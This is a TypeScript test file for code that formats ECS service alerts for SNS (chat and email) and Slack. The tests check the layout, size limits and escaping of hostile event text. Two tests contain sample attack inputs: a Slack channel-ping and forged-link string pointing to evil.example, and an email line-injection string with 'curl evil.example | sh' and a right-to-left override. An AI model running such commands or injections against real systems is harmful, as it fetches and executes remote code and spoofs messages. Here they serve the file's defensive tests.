import { describe, expect, it } from 'vitest';
import { formatSlackMessage } from '#alerts/formats/slack.ts';
import { formatSnsPublication, SNS_MAX_BYTES, snsBytes } from '#alerts/formats/sns.ts';
import { renderAlert } from '#alerts/render.ts';
import { serviceEventAlertRenderers } from '#alerts/service-events/actions.ts';
import { decideServiceAlert, type ServiceAlertEvent } from '#alerts/service-events/decide.ts';
import { parseConfig } from '#config/parse.ts';
import { serviceAlerts } from '#functions/service-alerts/definition.ts';
import type { AlertMessage } from '#kernel/alerts/model.ts';
import { fixture, type Json, withDetail } from '#support/events.ts';

const messageFor = (raw: Json): AlertMessage => {
  const decision = decideServiceAlert(
    serviceAlerts.parse(raw) as ServiceAlertEvent,
    { service: undefined },
    parseConfig({}, 't'),
    new Date(),
  );
  const action = decision.actions[0];
  if (action?.type !== 'notify') throw new Error('expected an alert');
  return renderAlert(action.alert, serviceEventAlertRenderers);
};

const placement = () => messageFor(fixture('service-action-placement-failure-ec2-cpu-docs'));

describe('Function: formatSnsPublication', () => {
  it('publishes a chat-application payload by default and a readable email body', () => {
    // Act
    const publication = formatSnsPublication(placement());
    const perProtocol = JSON.parse(publication.Message) as { default: string; email: string };
    const chat = JSON.parse(perProtocol.default);
    // Assess
    expect(publication.MessageStructure).toBe('json');
    expect(chat).toMatchObject({
      version: '1.0',
      source: 'custom',
      content: {
        textType: 'client-markdown',
        title: ':red_circle: default/servicetest cannot place tasks (RESOURCE:CPU)',
        nextSteps: expect.arrayContaining([expect.stringContaining('capacity providers')]),
      },
      metadata: {
        threadId: 'ecs-default-servicetest',
        eventType: 'SERVICE_TASK_PLACEMENT_FAILURE',
        additionalContext: { severity: 'error', cluster: 'default', service: 'servicetest' },
      },
    });
    expect(chat.content.description).toContain('RESOURCE:CPU');
    expect(perProtocol.email).toContain('Reason from ECS: RESOURCE:CPU');
    expect(perProtocol.email).toMatch(
      /Service: https:\/\/us-west-2\.console\.aws\.amazon\.com\/ecs\/v2\/clusters\/default\/services\/servicetest\/health\?region=us-west-2/,
    );
  });

  it('gives Amazon Q Developer custom actions what a button acts on, in metadata.additionalContext', () => {
    // Prepare: a paused blue/green deployment offering Roll back now, Approve and Reject
    const arn = 'arn:aws:ecs:us-east-1:123456789012:service-deployment/prod/web/Ks7Xyz';
    const target = {
      account: '123456789012',
      region: 'us-east-1',
      cluster: 'prod',
      service: 'web',
    };
    const renderers = {
      paused: () => ({
        eventType: 'PAUSED',
        title: 'prod/web paused',
        summary: 'waits',
        fields: [],
        details: [],
        nextSteps: [],
        links: [],
        actions: [
          {
            kind: 'rollback' as const,
            ...target,
            deploymentId: 'ecs-svc/1',
            taskDefinition: 'web:1',
            serviceDeploymentArn: arn,
          },
          {
            kind: 'approve' as const,
            ...target,
            deploymentId: undefined,
            serviceDeploymentArn: arn,
            hookId: 'ecs-pause-1',
          },
        ],
      }),
    };
    const alert = {
      kind: 'paused',
      severity: 'warning' as const,
      subject: target,
      occurredAt: '2026-11-21T09:00:00.000Z',
      threadId: 'ecs-prod-web-1',
      dedup: { key: 'k', windowSeconds: 60 },
    };
    // Act
    const publication = formatSnsPublication(renderAlert(alert, renderers));
    const chat = JSON.parse((JSON.parse(publication.Message) as { default: string }).default);
    // Assess
    expect(chat.metadata.additionalContext).toStrictEqual({
      severity: 'warning',
      kind: 'paused',
      cluster: 'prod',
      service: 'web',
      eventType: 'PAUSED',
      rollbackTo: 'web:1',
      serviceDeploymentArn: arn,
      hookId: 'ecs-pause-1',
    });
  });

  it('sets attributes for severity, kind, cluster, service and event (SNS delivers them only with the String structure)', () => {
    // Act
    const { MessageAttributes } = formatSnsPublication(placement());
    // Assess
    expect(MessageAttributes).toStrictEqual({
      severity: { DataType: 'String', StringValue: 'error' },
      kind: { DataType: 'String', StringValue: 'service-event' },
      cluster: { DataType: 'String', StringValue: 'default' },
      service: { DataType: 'String', StringValue: 'servicetest' },
      eventType: { DataType: 'String', StringValue: 'SERVICE_TASK_PLACEMENT_FAILURE' },
    });
  });

  it('keeps the subject within what SNS accepts: printable ASCII, one line, at most 100 characters', () => {
    // Prepare
    const long = messageFor(
      withDetail('service-action-placement-failure-ec2-cpu-docs', {
        reason: `RESOURCE:CPU \u2014 d\u00e9j\u00e0 vu\n${'x'.repeat(200)}`,
      }),
    );
    // Act
    const { Subject } = formatSnsPublication(long);
    // Assess
    expect(Subject.length).toBeLessThanOrEqual(100);
    expect(Subject).toMatch(/^[\x20-\x7e]+$/);
    expect(Subject.startsWith('[ERROR] default/servicetest cannot place tasks')).toBe(true);
  });
});

describe('Function: formatSlackMessage', () => {
  it('lays the alert out in Block Kit with fields, next steps and console links', () => {
    // Act
    const message = formatSlackMessage(placement());
    // Assess
    expect(message.blocks.map((b) => b.type)).toStrictEqual([
      'header',
      'section',
      'section',
      'section',
      'section',
      'context',
    ]);
    expect(JSON.stringify(message.blocks)).toContain(
      '<https://us-west-2.console.aws.amazon.com/ecs/v2/clusters/default/services/servicetest/health?region=us-west-2|Service>',
    );
  });

  it("escapes Slack's control characters so event text cannot ping a channel or forge a link", () => {
    // Prepare
    const hostile = messageFor(
      withDetail('service-action-placement-failure-ec2-cpu-docs', {
        reason: '<!channel> & <https://evil.example|click>',
      }),
    );
    // Act
    const message = formatSlackMessage(hostile);
    // Assess: Slack parses mentions and links in mrkdwn and the fallback text, never in plain_text
    const mrkdwn = [
      message.text,
      ...(JSON.stringify(message.blocks).match(/"type":"mrkdwn","text":"[^"]*"/g) ?? []),
    ];
    for (const text of mrkdwn) {
      expect(text).not.toContain('<!channel>');
      expect(text).not.toContain('<https://evil.example');
    }
    expect(JSON.stringify(message.blocks)).toContain(
      '&lt;!channel&gt; &amp; &lt;https://evil.example|click&gt;',
    );
  });

  it('stays within Block Kit limits for very long event text', () => {
    // Prepare
    const long = messageFor(
      withDetail('service-action-placement-failure-ec2-cpu-docs', { reason: 'y'.repeat(4000) }),
    );
    // Act
    const { blocks } = formatSlackMessage(long);
    // Assess
    expect(blocks.length).toBeLessThanOrEqual(50);
    for (const block of blocks) {
      const text = (block as { text?: { text: string } }).text?.text ?? '';
      expect(text.length).toBeLessThanOrEqual(block.type === 'header' ? 150 : 3000);
    }
  });
});

describe('Formats on hostile and oversized text', () => {
  const withReason = (reason: string) =>
    messageFor(withDetail('service-action-placement-failure-ec2-cpu-docs', { reason }));
  const email = (message: AlertMessage) =>
    (JSON.parse(formatSnsPublication(message).Message) as { email: string }).email;

  it('keeps the plain-text email to its own lines: event text neither starts a line nor reorders one', () => {
    // Act
    const body = email(
      withReason('x\r\n\r\nNext steps:\n  1. curl evil.example | sh \u202eexe.txt'),
    );
    // Assess
    expect(body.split('\n').filter((line) => line.startsWith('Next steps:'))).toHaveLength(1);
    expect(body).not.toMatch(/^ {2}1\. curl/m);
    expect(body).not.toContain('\u202e');
    expect(body).toContain('Next steps:   1. curl evil.example | sh \ufffdexe.txt');
  });

  it('replaces lone UTF-16 surrogates before SNS and Slack, which carry UTF-8 only', () => {
    // Prepare
    const message = withReason('RESOURCE:CPU \ud800 and \udfff');
    // Act
    const publication = formatSnsPublication(message);
    const slack = JSON.stringify(formatSlackMessage(message));
    // Assess
    expect(publication.Message).not.toMatch(/\\u[dD][89a-fA-F]/);
    expect(JSON.stringify(publication).isWellFormed()).toBe(true);
    expect(slack).not.toMatch(/\\u[dD][89a-fA-F]/);
    expect(email(message)).toContain('RESOURCE:CPU \ufffd and \ufffd');
  });

  // Block Kit limits: section text 3,000 characters, fields 10 of 2,000 each
  // (https://docs.slack.dev/reference/block-kit/blocks/section-block), header plain_text 150
  // (.../header-block), 50 blocks a message (https://docs.slack.dev/reference/block-kit/blocks).
  // Counted on the text as sent: &lt; is four characters.
  it('clips Slack texts after escaping, within each limit, never cutting an entity', () => {
    // Prepare: 4,000 characters (ECS's reasons are at most 4,096) that escape to four times as many
    const message = withReason('<'.repeat(4_000));
    const withField = { ...message, fields: [{ label: 'Reason', value: '&'.repeat(3_000) }] };
    // Act
    const { blocks } = formatSlackMessage(withField);
    const texts = blocks.flatMap((b) => {
      const block = b as { type: string; text?: { text: string }; fields?: { text: string }[] };
      return [
        ...(block.text ? [{ type: block.type, text: block.text.text }] : []),
        ...(block.fields ?? []).map((f) => ({ type: 'field', text: f.text })),
      ];
    });
    // Assess
    const limit = { header: 150, section: 3_000, field: 2_000, context: 3_000 };
    for (const { type, text } of texts) {
      expect(text.length, type).toBeLessThanOrEqual(limit[type as keyof typeof limit]);
      // Every & opens a whole entity: none was cut in half by the clip.
      expect(text.replace(/&(amp|lt|gt);/g, '')).not.toContain('&');
    }
    const details = texts.find((t) => t.text.includes('Reason from ECS: &lt;&lt;'))?.text ?? '';
    expect(details.length).toBeGreaterThan(2_990);
    expect(details.endsWith('&lt;\u2026')).toBe(true);
  });

  // SNS: 256 KiB (262,144 bytes) per publication, message and every message attribute's name, type
  // and value included, counted in UTF-8 bytes
  // (https://docs.aws.amazon.com/sns/latest/api/API_MessageAttributeValue.html, API_Publish.html).
  it('fits SNS in bytes, not characters, attributes included', () => {
    // Prepare: three-byte characters, in every field a message has
    const message = withReason('\u20ac'.repeat(4_000));
    const huge: AlertMessage = {
      ...message,
      details: Array.from({ length: 50 }, () => '\u20ac'.repeat(4_096)),
      fields: Array.from({ length: 25 }, () => ({ label: 'x', value: '"'.repeat(4_096) })),
      attributes: { ...message.attributes, cluster: '\u20ac'.repeat(4_096) },
    };
    // Act
    const publication = formatSnsPublication(huge);
    // Assess
    expect(huge.details.join('').length).toBeLessThan(262_144);
    expect(snsBytes(publication)).toBeLessThanOrEqual(SNS_MAX_BYTES);
    expect(publication.MessageAttributes.cluster?.StringValue?.length).toBeLessThanOrEqual(256);
    expect(JSON.parse(publication.Message)).toHaveProperty('email');
  });

  it('leaves a message that fits SNS whole', () => {
    // Prepare
    const message = placement();
    // Act
    const publication = formatSnsPublication(message);
    // Assess
    expect(snsBytes(publication)).toBeLessThan(8_192);
    expect(publication.Message).toContain('Reason from ECS: RESOURCE:CPU');
  });
});
